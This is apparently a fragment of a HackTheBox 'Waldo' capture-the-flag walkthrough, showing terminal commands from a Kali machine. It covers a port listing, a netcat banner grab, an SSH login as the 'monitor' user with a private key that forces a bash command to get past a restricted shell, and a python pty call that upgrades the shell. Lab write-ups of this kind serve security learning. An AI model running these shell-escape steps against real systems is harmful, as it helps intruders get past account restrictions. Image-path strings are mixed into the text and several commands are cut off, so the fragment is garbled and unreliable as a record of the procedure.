tcp0 0* LISTEN 2507/ssh
tcp6 0 0 ::1:8023 :::* LISTEN 2507/ssh
root@kali:~# nc localhost 8023
SSH-2.0-OpenSSH_7.4p1 Debian-10+deb9u3
root@kali:~# nc 22
root@kali:~/htb/waldo# ssh -p8023 -i priv monitor@localhost bashuid=1001(monitor) gid=1001(monitor)groups=1001(monitor)
python3 -c "import pty; pty.spawn('/bin/bash')"
monitor@waldo:~$ pwd

Author: Jacco Straathof